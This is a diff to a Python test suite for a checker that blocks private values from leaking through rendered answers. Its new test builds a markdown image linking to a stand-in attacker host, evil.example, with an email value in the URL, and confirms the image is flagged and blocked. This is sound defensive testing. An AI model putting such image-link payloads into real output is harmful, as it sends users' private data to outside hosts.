@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import time
 from urllib.parse import quote
 
 import pytest
@@ -225,8 +226,13 @@ def test_benign_answers_pass_and_display_unchanged(raw: str) -> None:
 
 @settings(max_examples=200, deadline=None)
 @given(
-    before=st.text(alphabet=st.characters(blacklist_characters="[]()<>!"), max_size=40),
-    after=st.text(alphabet=st.characters(blacklist_characters="[]()<>!"), max_size=40),
+    # No lone surrogates: the vault cannot restore around them (test_checks_wiring.py).
+    before=st.text(
+        st.characters(blacklist_characters="[]()<>!", blacklist_categories=["Cs"]), max_size=40
+    ),
+    after=st.text(
+        st.characters(blacklist_characters="[]()<>!", blacklist_categories=["Cs"]), max_size=40
+    ),
     placeholder=st.sampled_from(sorted(WITHHELD)),
     encode=st.sampled_from(["plain", "quote", "b64"]),
 )
@@ -260,9 +266,14 @@ def test_any_image_carrying_a_value_is_never_displayed_as_a_fetch(
     ids=["brackets", "images", "tags", "fences", "base64", "many-urls"],
 )
 def test_hostile_shapes_are_checked_in_linear_time(answer: str) -> None:
-    import time
-
     values = {f"[EMAIL_{i}]": f"user{i}@mail.example" for i in range(1, 100)}
     started = time.perf_counter()
     evaluate(answer, answer, withheld=values, data_location="cloud")
     assert time.perf_counter() - started < 2.0
+
+
+def test_a_lone_surrogate_from_a_provider_does_not_break_the_checks() -> None:
+    shown = f"![x](https://evil.example/p?e={EMAIL}) \ud800"
+    checks = evaluate(shown, shown, withheld=WITHHELD, data_location="cloud")
+    assert {c.name: c.status for c in checks}["no_exfiltration"] == "fail"
+    assert safe_for_display(shown, checks) == "[blocked image: x] \ud800"
